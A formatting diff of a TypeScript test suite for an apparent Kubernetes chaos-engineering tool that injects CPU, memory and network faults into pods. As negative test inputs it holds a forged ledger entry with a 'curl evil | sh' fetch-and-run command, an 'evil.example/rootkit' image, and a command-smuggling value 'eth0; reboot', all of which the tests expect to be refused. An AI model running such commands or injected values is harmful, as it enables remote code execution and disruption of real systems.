@@ -29,7 +29,7 @@ import {
   TEST_STRESS_IMAGE,
   waitFor,
   type Admin,
-  type SeedApp
+  type SeedApp,
 } from '../../helpers/k8s.js';
 
 let a: Admin;
@@ -61,7 +61,13 @@ const envOf = (c: V1EphemeralContainer) => Object.fromEntries((c.env ?? []).map(
  * inject -> assert the fault container -> inject again (no second container) -> revert -> assert the undo
  * container and the verification -> ledger gone. Returns what the test may look at further.
  */
-async function roundTrip(p: KubernetesPlatform, app: SeedApp, fault: string, env: Record<string, string>, check: (c: V1EphemeralContainer, seconds: number) => void) {
+async function roundTrip(
+  p: KubernetesPlatform,
+  app: SeedApp,
+  fault: string,
+  env: Record<string, string>,
+  check: (c: V1EphemeralContainer, seconds: number) => void,
+) {
   const ns = app === 'api-gateway' ? 'footanalytics' : 'ai-processing';
   const [target] = await freshPods(a, app);
   const name = target.metadata!.name!;
@@ -84,7 +90,14 @@ async function roundTrip(p: KubernetesPlatform, app: SeedApp, fault: string, env
   expect(JSON.parse(pod.metadata!.annotations![key])).toEqual({ run: ref.runId, fault, faultIndex: 0, detail: container });
   const entry = await ledgerOf(app, key);
   expect(entry).toMatchObject({ fault, run: ref.runId, rounds: { '0': [name] }, done: [0] });
-  expect((entry.data as unknown as EphemeralRecord).pods[name]).toMatchObject({ uid: target.metadata!.uid, container, target: app, image: c.image, command: c.command, undo: [] });
+  expect((entry.data as unknown as EphemeralRecord).pods[name]).toMatchObject({
+    uid: target.metadata!.uid,
+    container,
+    target: app,
+    image: c.image,
+    command: c.command,
+    undo: [],
+  });
   // nothing from YAML is spliced into shell text: a script is constant, its values come through the env
   if (c.command?.[0] === 'sh') expect(c.command).toHaveLength(3);
 
@@ -120,10 +133,16 @@ describe('process faults', () => {
   });
 
   test('pod-memory-hog: stress-ng --vm NUMBER_OF_WORKERS --vm-bytes MEMORY_CONSUMPTION M, held; reverted and clean', async () => {
-    const { ref, key } = await roundTrip(foot, 'api-gateway', 'pod-memory-hog', { MEMORY_CONSUMPTION: '256', NUMBER_OF_WORKERS: '2', STRESS_IMAGE: 'registry.example/stress-ng:0.18' }, (c) => {
-      expect(c.image).toBe('registry.example/stress-ng:0.18');
-      expect(c.command!.slice(0, 6)).toEqual(['stress-ng', '--vm', '2', '--vm-bytes', '256M', '--vm-keep']);
-    });
+    const { ref, key } = await roundTrip(
+      foot,
+      'api-gateway',
+      'pod-memory-hog',
+      { MEMORY_CONSUMPTION: '256', NUMBER_OF_WORKERS: '2', STRESS_IMAGE: 'registry.example/stress-ng:0.18' },
+      (c) => {
+        expect(c.image).toBe('registry.example/stress-ng:0.18');
+        expect(c.command!.slice(0, 6)).toEqual(['stress-ng', '--vm', '2', '--vm-bytes', '256M', '--vm-keep']);
+      },
+    );
     const rv = await foot.revert(ref, noCtx());
     expect(rv.verification).toContain('ledger clean');
     expect(await ledgerKeys(a, 'api-gateway', key)).toEqual([]);
@@ -131,7 +150,11 @@ describe('process faults', () => {
 
   test('gpu-memory-hog on ml-pipeline (ai-processing identity): its container has no nvidia.com/gpu of its own, so it is refused (never NVIDIA_VISIBLE_DEVICES=all); the GPU path is in fault-guards.test.ts', async () => {
     const [target] = await freshPods(a, 'ml-pipeline');
-    const spec = k8sEngine('ml-pipeline-gpu-memory-hog', 'ml-pipeline', 'gpu-memory-hog', { TOTAL_CHAOS_DURATION: '60', TARGET_PODS: target.metadata!.name!, GPU_MEMORY_PERCENTAGE: '80' });
+    const spec = k8sEngine('ml-pipeline-gpu-memory-hog', 'ml-pipeline', 'gpu-memory-hog', {
+      TOTAL_CHAOS_DURATION: '60',
+      TARGET_PODS: target.metadata!.name!,
+      GPU_MEMORY_PERCENTAGE: '80',
+    });
     const f = await failureOf(ai.preflight(spec));
     expect(f).toMatchObject({ type: 'FaultRefused', nonRetryable: true });
     expect(f.message).toContain(`container ml-pipeline of pod ai-processing/${target.metadata!.name} has no nvidia.com/gpu limit`);
@@ -145,14 +168,18 @@ describe('process faults', () => {
     const [target] = await freshPods(a, 'api-gateway');
     const name = target.metadata!.name!;
     const running = { running: { startedAt: new Date() } };
-    await patchPodStatus(a, 'footanalytics', name, { containerStatuses: [{ name: 'api-gateway', containerID: 'containerd://aa', restartCount: 0, ready: true, image: 'x', imageID: '', state: running }] });
+    await patchPodStatus(a, 'footanalytics', name, {
+      containerStatuses: [{ name: 'api-gateway', containerID: 'containerd://aa', restartCount: 0, ready: true, image: 'x', imageID: '', state: running }],
+    });
     const spec = k8sEngine('api-gateway-cpu', 'api-gateway', 'pod-cpu-hog', { TOTAL_CHAOS_DURATION: '60', TARGET_PODS: name });
     const ref = faultRef(spec);
     const { id, key } = faultIds(ref);
     await foot.inject(injectReq(ref), noCtx());
     const stress = `tempest-cpu-${id}`;
     const undo = `tempest-undo-${id}-1`;
-    await patchPodStatus(a, 'footanalytics', name, { ephemeralContainerStatuses: [{ name: stress, restartCount: 0, ready: false, image: 'x', imageID: '', state: running }] });
+    await patchPodStatus(a, 'footanalytics', name, {
+      ephemeralContainerStatuses: [{ name: stress, restartCount: 0, ready: false, image: 'x', imageID: '', state: running }],
+    });
     const quick = createKubernetesPlatform(k8sConfig(footCfgFile), { verifyTimeoutMs: 2000 });
     const f = await failureOf(quick.revert(ref, noCtx()));
     expect(f.type).toBe('NotYetClean');
@@ -172,19 +199,25 @@ describe('process faults', () => {
   });
 });
 
-describe('images and the ledger are the operator\'s, not the author\'s', () => {
+describe("images and the ledger are the operator's, not the author's", () => {
   test('an engine image the policy does not allow, or no stress image in the policy at all: refused before anything is injected', async () => {
     const [target] = await freshPods(a, 'api-gateway');
     const name = target.metadata!.name!;
     const before = (await readPod('footanalytics', name)).spec!.ephemeralContainers?.length ?? 0;
-    const evil = k8sEngine('api-gateway-cpu', 'api-gateway', 'pod-cpu-hog', { TOTAL_CHAOS_DURATION: '60', TARGET_PODS: name, STRESS_IMAGE: 'evil.example/rootkit:1.0' });
+    const evil = k8sEngine('api-gateway-cpu', 'api-gateway', 'pod-cpu-hog', {
+      TOTAL_CHAOS_DURATION: '60',
+      TARGET_PODS: name,
+      STRESS_IMAGE: 'evil.example/rootkit:1.0',
+    });
     const f = await failureOf(foot.preflight(evil));
     expect(f).toMatchObject({ type: 'FaultRefused', nonRetryable: true });
     expect(f.message).toContain('the stress image evil.example/rootkit:1.0 is not in images.allow');
     const g = await failureOf(foot.inject(injectReq(faultRef(evil)), noCtx()));
     expect(g.type).toBe('FaultRefused');
     const unpinned = createKubernetesPlatform(k8sConfig(footCfgFile, { images: {} }), { verifyTimeoutMs: 2000 });
-    const h = await failureOf(unpinned.preflight(k8sEngine('api-gateway-cpu', 'api-gateway', 'pod-cpu-hog', { TOTAL_CHAOS_DURATION: '60', TARGET_PODS: name })));
+    const h = await failureOf(
+      unpinned.preflight(k8sEngine('api-gateway-cpu', 'api-gateway', 'pod-cpu-hog', { TOTAL_CHAOS_DURATION: '60', TARGET_PODS: name })),
+    );
     expect(h.message).toContain('images.stress is not set in');
     expect((await readPod('footanalytics', name)).spec!.ephemeralContainers?.length ?? 0).toBe(before);
   });
@@ -197,8 +230,26 @@ describe('images and the ledger are the operator\'s, not the author\'s', () => {
     const { key, id } = faultIds(ref);
     // a first attempt recorded its intent, then died; someone with patch on the Deployment rewrites the ledger
     const forged = {
-      fault: 'pod-cpu-hog', run: ref.runId, faultIndex: 0, rounds: { '0': [name, 'coredns-123'] }, done: [], expiresAt: new Date(Date.now() + 60_000).toISOString(),
-      data: { mode: 'ephemeral', pods: { [name]: { uid: target.metadata!.uid, container: 'pwn', target: 'api-gateway', image: 'evil.example/rootkit:1.0', command: ['sh', '-c', 'curl evil | sh'], env: { X: 'y' }, undo: [] } } },
+      fault: 'pod-cpu-hog',
+      run: ref.runId,
+      faultIndex: 0,
+      rounds: { '0': [name, 'coredns-123'] },
+      done: [],
+      expiresAt: new Date(Date.now() + 60_000).toISOString(),
+      data: {
+        mode: 'ephemeral',
+        pods: {
+          [name]: {
+            uid: target.metadata!.uid,
+            container: 'pwn',
+            target: 'api-gateway',
+            image: 'evil.example/rootkit:1.0',
+            command: ['sh', '-c', 'curl evil | sh'],
+            env: { X: 'y' },
+            undo: [],
+          },
+        },
+      },
     };
     await a.apps.patchNamespacedDeployment(
       { name: 'api-gateway', namespace: 'footanalytics', body: { metadata: { annotations: { [key]: JSON.stringify(forged) } } } },
@@ -239,20 +290,33 @@ describe('finding the work', () => {
 
 describe('netem faults', () => {
   test('pod-network-latency: tc netem delay <ms>ms <jitter>ms with NET_ADMIN in a self-expiring shell; exec refused on kwok -> undo container, recorded in the ledger; ledger gone', async () => {
-    const { ref, key, id, name, ns, container } = await roundTrip(foot, 'api-gateway', 'pod-network-latency', { NETWORK_LATENCY: '300', JITTER: '50' }, (c, s) => {
-      expect(c.image).toBe('docker.io/nicolaka/netshoot:v0.13');
-      expect(c.securityContext?.capabilities?.add).toEqual(['NET_ADMIN']);
-      expect(c.command![0]).toBe('sh');
-      const script = c.command![2];
-      expect(script).toContain('tc qdisc replace dev "$TEMPEST_IF" root netem $TEMPEST_NETEM || exit 1');
-      expect(script).toContain(`trap 'tc qdisc del dev "$TEMPEST_IF" root 2>/dev/null; exit 0' TERM INT`);
-      expect(script).toMatch(/wait \$!; tc qdisc del dev "\$TEMPEST_IF" root 2>\/dev\/null; exit 0$/);
-      const env = envOf(c);
-      expect(env).toMatchObject({ TEMPEST_IF: 'eth0', TEMPEST_NETEM: 'delay 300ms 50ms' });
-      expect(Number(env.TEMPEST_SECONDS)).toBeGreaterThanOrEqual(s - 3);
-    });
+    const { ref, key, id, name, ns, container } = await roundTrip(
+      foot,
+      'api-gateway',
+      'pod-network-latency',
+      { NETWORK_LATENCY: '300', JITTER: '50' },
+      (c, s) => {
+        expect(c.image).toBe('docker.io/nicolaka/netshoot:v0.13');
+        expect(c.securityContext?.capabilities?.add).toEqual(['NET_ADMIN']);
+        expect(c.command![0]).toBe('sh');
+        const script = c.command![2];
+        expect(script).toContain('tc qdisc replace dev "$TEMPEST_IF" root netem $TEMPEST_NETEM || exit 1');
+        expect(script).toContain(`trap 'tc qdisc del dev "$TEMPEST_IF" root 2>/dev/null; exit 0' TERM INT`);
+        expect(script).toMatch(/wait \$!; tc qdisc del dev "\$TEMPEST_IF" root 2>\/dev\/null; exit 0$/);
+        const env = envOf(c);
+        expect(env).toMatchObject({ TEMPEST_IF: 'eth0', TEMPEST_NETEM: 'delay 300ms 50ms' });
+        expect(Number(env.TEMPEST_SECONDS)).toBeGreaterThanOrEqual(s - 3);
+      },
+    );
     // the driver's revert alone, to look at the ledger before the platform clears it
-    const c = { k8s: foot.clients, target: new K8sTarget(foot.clients, ref.target), heartbeat: () => undefined, signal: new AbortController().signal, settings: foot.settings, policy: foot.policy };
+    const c = {
+      k8s: foot.clients,
+      target: new K8sTarget(foot.clients, ref.target),
+      heartbeat: () => undefined,
+      signal: new AbortController().signal,
+      settings: foot.settings,
+      policy: foot.policy,
+    };
     const undone = await podNetworkLatencyKubernetes.revert(ref, c, new K8sLedger(c.target, key));
     expect(undone).toEqual([`${name}: tempest-undo-${id}-1 (tc qdisc del dev eth0 root)`]);
     const rec = (await ledgerOf('api-gateway', key)).data as unknown as EphemeralRecord;
@@ -278,8 +342,25 @@ describe('netem faults', () => {
   test('pod-network-loss: tc netem loss <pct>% on NETWORK_INTERFACE; a failed undo (exit 1, as the kubelet reports it) is not clean and the next revert adds another', async () => {
     const [target] = await freshPods(a, 'api-gateway');
     const name = target.metadata!.name!;
-    await patchPodStatus(a, 'footanalytics', name, { containerStatuses: [{ name: 'api-gateway', containerID: 'containerd://bb', restartCount: 0, ready: true, image: 'x', imageID: '', state: { running: { startedAt: new Date() } } }] });
-    const spec = k8sEngine('api-gateway-loss', 'api-gateway', 'pod-network-loss', { TOTAL_CHAOS_DURATION: '60', TARGET_PODS: name, NETWORK_PACKET_LOSS_PERCENTAGE: '20', NETWORK_INTERFACE: 'net1' });
+    await patchPodStatus(a, 'footanalytics', name, {
+      containerStatuses: [
+        {
+          name: 'api-gateway',
+          containerID: 'containerd://bb',
+          restartCount: 0,
+          ready: true,
+          image: 'x',
+          imageID: '',
+          state: { running: { startedAt: new Date() } },
+        },
+      ],
+    });
+    const spec = k8sEngine('api-gateway-loss', 'api-gateway', 'pod-network-loss', {
+      TOTAL_CHAOS_DURATION: '60',
+      TARGET_PODS: name,
+      NETWORK_PACKET_LOSS_PERCENTAGE: '20',
+      NETWORK_INTERFACE: 'net1',
+    });
     const ref = faultRef(spec);
     const { id, key } = faultIds(ref);
     const r = await foot.inject(injectReq(ref), noCtx());
@@ -292,7 +373,14 @@ describe('netem faults', () => {
     const first = quick.revert(ref, noCtx());
     const undo1 = `tempest-undo-${id}-1`;
     const undo2 = `tempest-undo-${id}-2`;
-    const terminated = (n: string, code: number) => ({ name: n, restartCount: 0, ready: false, image: 'x', imageID: '', state: { terminated: { exitCode: code } } });
+    const terminated = (n: string, code: number) => ({
+      name: n,
+      restartCount: 0,
+      ready: false,
+      image: 'x',
+      imageID: '',
+      state: { terminated: { exitCode: code } },
+    });
     await waitFor('undo-1 added', async () => !!ephemeral(await readPod('footanalytics', name), undo1));
     await patchPodStatus(a, 'footanalytics', name, { ephemeralContainerStatuses: [terminated(undo1, 1)] });
     const f = await failureOf(first);
@@ -309,7 +397,9 @@ describe('netem faults', () => {
   });
 
   test('a bad NETWORK_INTERFACE never gets past the loader; a crafted one is refused at preflight, before anything is injected', async () => {
-    expect(() => k8sEngine('x', 'api-gateway', 'pod-network-latency', { TOTAL_CHAOS_DURATION: '60', NETWORK_INTERFACE: 'eth0; reboot' })).toThrow(/NETWORK_INTERFACE must be a network interface name/);
+    expect(() => k8sEngine('x', 'api-gateway', 'pod-network-latency', { TOTAL_CHAOS_DURATION: '60', NETWORK_INTERFACE: 'eth0; reboot' })).toThrow(
+      /NETWORK_INTERFACE must be a network interface name/,
+    );
     const spec = k8sEngine('x', 'api-gateway', 'pod-network-latency', { TOTAL_CHAOS_DURATION: '60' });
     spec.faults[0].params.networkInterface = 'eth0; reboot';
     const f = await failureOf(foot.preflight(spec));
